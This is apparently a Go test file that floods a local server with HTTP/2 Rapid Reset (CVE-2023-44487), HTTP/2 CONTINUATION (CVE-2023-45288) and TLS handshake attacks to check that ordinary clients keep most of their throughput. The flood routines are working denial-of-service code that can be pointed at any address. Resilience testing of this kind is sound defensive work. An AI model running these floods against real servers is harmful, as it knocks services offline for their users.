package attacks

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/tokenwright/tokenwright/test/evidence"
	"github.com/tokenwright/tokenwright/test/harness"
)

// whoever opens and resets streams of HTTP/2 without an end, sends a head
// without an end, or shakes hands a thousand times a second takes no more than a part
// of the machine: clients get four fifths of what they get otherwise, at least.
func TestFloodsLeaveClientsTheirShare(t *testing.T) {
	for _, f := range []struct {
		name, what string
		short      time.Duration
		attack     func(*flood, context.Context)
	}{
		{"Reset", "streams of HTTP/2 are opened and reset at once", 2 * time.Second, (*flood).reset},
		{"Continuation", "heads of HTTP/2 go on and on", 5 * time.Second, (*flood).continuation},
		{"Handshakes", "a thousand TLS handshakes a second", 2 * time.Second, (*flood).handshakes},
	} {
		t.Run(f.name, func(t *testing.T) {
			evidence.Short(t)
			in := harness.New(t)
			in.ServeTLS(t)
			x := newTarget(t, "R-44", f.what, in)
			flooding := &flood{address: fmt.Sprintf("127.0.0.1:%d", x.Port)}
			long := evidence.Lasting(f.short, 10*time.Minute)
			meanwhile := x.attacked(t, long, func(ctx context.Context) { f.attack(flooding, ctx) })
			if flooding.done.Load() == 0 {
				t.Error("nothing was done: this run has tested nothing")
			}
			longest := time.Duration(flooding.longest.Load())
			if f.name == "Continuation" && longest == 0 {
				t.Error("a head that does not end is listened to for as long as it goes on")
			}
			x.row.Tell("of them", float64(flooding.done.Load())/long.Seconds(), "/s")
			x.row.Tell("connections", float64(flooding.connections.Load()), "")
			x.row.AtLeast(t, "tokens meanwhile", meanwhile.rate, "/s", 0.8*x.before.rate)
			x.row.Tell("p99 of tokens meanwhile", evidence.MS(meanwhile.p99), "ms")
			x.row.Tell("otherwise", evidence.MS(x.before.p99), "ms")
			if longest > 0 {
				x.row.AtMost(t, "such a connection is ended within", evidence.MS(longest), "ms", 5000)
			}
			x.report(t)
		})
	}
}

// flood is what comes from many connections.
type flood struct {
	address string

	done, connections atomic.Int64
	longest           atomic.Int64 // nanoseconds, of a connection that the server has to end
}

// connect makes one connection after the other on each of eight ways.
func (f *flood) connect(ctx context.Context, use func(*tls.Conn) error) {
	var running sync.WaitGroup
	for range 8 {
		running.Go(func() {
			for ctx.Err() == nil {
				conn, err := f.dial(ctx, "h2")
				if err != nil {
					continue // not let in, which is as good
				}
				f.connections.Add(1)
				stop := context.AfterFunc(ctx, func() { _ = conn.NetConn().Close() })
				_ = use(conn) // it ends with an error: who is shown out comes again
				stop()
				_ = conn.NetConn().Close()
			}
		})
	}
	running.Wait()
}

func (f *flood) dial(ctx context.Context, protocol string) (*tls.Conn, error) {
	d := tls.Dialer{
		NetDialer: &net.Dialer{Timeout: 10 * time.Second},
		Config:    &tls.Config{InsecureSkipVerify: true, NextProtos: []string{protocol}}, // whose it is does not matter here
	}
	conn, err := d.DialContext(ctx, "tcp", f.address)
	if err != nil {
		return nil, err
	}
	return conn.(*tls.Conn), nil
}

// open begins to speak HTTP/2, and returns the framer and a block of headers.
func (f *flood) open(conn *tls.Conn) (*http2.Framer, []byte, error) {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, nil, err
	}
	framer := http2.NewFramer(conn, conn)
	go func() { _, _ = io.Copy(io.Discard, conn) }() // what is answered
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", "/demo/oauth/jwks"}} {
		if err := encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
			return nil, nil, err
		}
	}
	return framer, block.Bytes(), framer.WriteSettings()
}

// reset opens streams and resets them (CVE-2023-44487).
func (f *flood) reset(ctx context.Context) {
	f.connect(ctx, func(conn *tls.Conn) error {
		framer, block, err := f.open(conn)
		for stream := uint32(1); err == nil && stream < 1<<30; stream += 2 {
			err = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndStream: true, EndHeaders: true})
			if err == nil {
				err = framer.WriteRSTStream(stream, http2.ErrCodeCancel)
			}
			f.done.Add(1)
		}
		return err
	})
}

// continuation sends a head that does not end (CVE-2023-45288).
func (f *flood) continuation(ctx context.Context) {
	f.connect(ctx, func(conn *tls.Conn) error {
		framer, block, err := f.open(conn)
		if err == nil {
			err = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndStream: true})
		}
		began := time.Now()
		// Each a field that is not in the table, with a name of its own.
		more := append([]byte{0x00, 0x01, 'a', 0x7f, 0x80, 0x7e}, bytes.Repeat([]byte{'a'}, 16255)...)
		for ; err == nil; f.done.Add(1) {
			err = framer.WriteContinuation(1, false, more)
		}
		if ctx.Err() == nil {
			f.longest.Store(max(f.longest.Load(), int64(time.Since(began))))
		}
		return err
	})
}

// handshakes makes connections and leaves.
func (f *flood) handshakes(ctx context.Context) {
	const rate = 1000
	began := time.Now()
	var next atomic.Int64
	var running sync.WaitGroup
	for range 32 {
		running.Go(func() {
			for ctx.Err() == nil {
				at := began.Add(time.Duration(next.Add(1)) * time.Second / rate)
				select {
				case <-ctx.Done():
					return
				case <-time.After(time.Until(at)):
				}
				if conn, err := f.dial(ctx, "http/1.1"); err == nil {
					f.done.Add(1)
					_ = conn.NetConn().Close()
				}
			}
		})
	}
	running.Wait()
	f.connections.Store(f.done.Load())
}
